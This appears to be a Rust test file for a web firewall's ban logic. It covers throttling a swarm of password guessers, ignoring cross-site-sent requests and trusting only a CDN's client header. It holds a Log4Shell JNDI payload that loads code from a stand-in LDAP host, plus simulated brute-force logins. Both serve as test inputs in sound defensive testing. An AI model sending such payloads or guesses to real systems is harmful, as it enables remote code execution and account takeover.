//! Many against one account, a page elsewhere that sends its visitors, and visitors named
//! by a CDN's header: through the whole program.

use std::time::Duration;

use crate::behind::{self, Person, alerts, decision};
use crate::instance::{Instance, missing_pages, site};
use crate::logged_in::office;
use crate::support::wait_for;

const CLIENTS: usize = 40;
const EXPLOIT: &str = "/?x=${jndi:ldap://203.0.113.9/a}";

/// The addresses of a swarm, spread over two ranges.
fn address(number: usize) -> String {
    let range = ["198.51.100", "203.0.113"][number % 2];
    format!("{range}.{}", 10 + number)
}

fn kinds(instance: &Instance, wanted: &str) -> usize {
    let kind = |number| decision(instance, &address(number));
    (0..CLIENTS)
        .filter(|number| kind(*number).as_deref() == Some(wanted))
        .count()
}

#[test]
fn many_who_guess_one_account_are_slowed_down_and_none_of_them_is_barred() {
    // Two ways to log in: one whose answer does not say that it was wrong, one that does.
    for form in [true, false] {
        let Some((instance, _app)) = office() else {
            return;
        };
        for number in 0..CLIENTS {
            let one = Person::at(&instance, &address(number));
            if form {
                one.post("/login", &format!("user=ann&password=summer{number}"));
            } else {
                let guess = base64(&format!("ann:summer{number}"));
                one.with(&format!("Authorization: Basic {guess}"))
                    .get("/dav/");
            }
        }
        let slowed = wait_for("the swarm to be seen", Duration::from_secs(10), || {
            let slowed = kinds(&instance, "throttle");
            (slowed >= 10).then_some(slowed)
        });
        println!("{slowed} of {CLIENTS} are slowed down");
        assert_eq!(kinds(&instance, "ban"), 0, "the owner is among them");
        // Who knows the password gets in, from a place of its own.
        let ann = Person::at(&instance, "192.0.2.77");
        let answer = ann.post("/login", "user=ann&password=correct-horse");
        assert!(answer.starts_with("HTTP/1.1 303 "), "{answer}");
        assert_eq!(decision(&instance, "192.0.2.77"), None);
    }
}

#[test]
fn many_logins_with_the_right_password_are_no_guesses() {
    let Some((instance, _app)) = office() else {
        return;
    };
    for number in 0..CLIENTS {
        let one = Person::at(&instance, &address(number));
        let answer = one.post("/login", "user=ann&password=correct-horse");
        assert!(answer.starts_with("HTTP/1.1 303 "), "{answer}");
    }
    assert_eq!(kinds(&instance, "throttle") + kinds(&instance, "ban"), 0);
}

#[test]
fn whom_a_page_elsewhere_sends_is_refused_each_time_and_never_barred() {
    let instance = behind::start(&site("*", missing_pages()), "");
    for number in 0..10 {
        let own = Person::at(&instance, &address(number));
        let sent = own.with("Sec-Fetch-Site: cross-site");
        for _ in 0..3 {
            assert_eq!(sent.get(EXPLOIT), 403, "DENY, by whomever it was sent");
        }
        assert_ne!(
            decision(&instance, &address(number)).as_deref(),
            Some("ban")
        );
        assert_eq!(own.get("/"), 404, "the next page of his own is the site's");
    }
    // Who asks by himself is barred.
    let attacker = Person::at(&instance, "192.0.2.66");
    attacker.get(EXPLOIT);
    assert_eq!(attacker.get("/"), 403, "DENY");
    assert!(alerts(&instance, "192.0.2.66") > 0);
}

#[test]
fn the_header_that_names_the_client_is_believed_and_no_other() {
    let instance = behind::start(&site("*", missing_pages()), "");
    let file = instance.folder.0.join("ringwall.toml");
    let text = std::fs::read_to_string(&file).expect("there is a configuration");
    let named = text.replace("[edge]\n", "[edge]\nclient_header = \"CF-Connecting-IP\"\n");
    instance.folder.file("ringwall.toml", &named);
    instance.say(&["reload"]);

    let (named, forged) = ("198.51.100.66", "203.0.113.66");
    // X-Forwarded-For, which anybody may send through the CDN, names somebody else.
    let attacker = Person::at(&instance, forged).with(&format!("CF-Connecting-IP: {named}"));
    attacker.get(EXPLOIT);
    assert_eq!(attacker.get("/"), 403, "DENY");
    assert_eq!(decision(&instance, named).as_deref(), Some("ban"));
    assert_eq!(
        decision(&instance, forged),
        None,
        "DENY framing a neighbour"
    );
    let visitor = Person::at(&instance, named).with("CF-Connecting-IP: 203.0.113.67");
    assert_eq!(visitor.get("/"), 404, "barred is who was named by the CDN");
    // Nobody is named: the CDN itself is not barred for what comes through it.
    let nameless = Person::at(&instance, "203.0.113.68");
    nameless.get(EXPLOIT);
    assert_eq!(decision(&instance, "203.0.113.68"), None);
    assert_eq!(decision(&instance, "127.0.0.1"), None);
    assert_eq!(visitor.get("/"), 404);
}

/// As RFC 4648 §4 writes it.
fn base64(text: &str) -> String {
    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for three in text.as_bytes().chunks(3) {
        let bits = (0..3).fold(0_usize, |bits, at| {
            (bits << 8) | usize::from(three.get(at).copied().unwrap_or(0))
        });
        for at in 0..4 {
            if at <= three.len() {
                out.push(char::from(LETTERS[(bits >> (18 - 6 * at)) & 63]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[test]
fn base64_is_written_as_others_read_it() {
    for (text, coded) in [
        ("", ""),
        ("a", "YQ=="),
        ("ab", "YWI="),
        ("ann:correct-horse", "YW5uOmNvcnJlY3QtaG9yc2U="),
    ] {
        assert_eq!(base64(text), coded);
    }
}
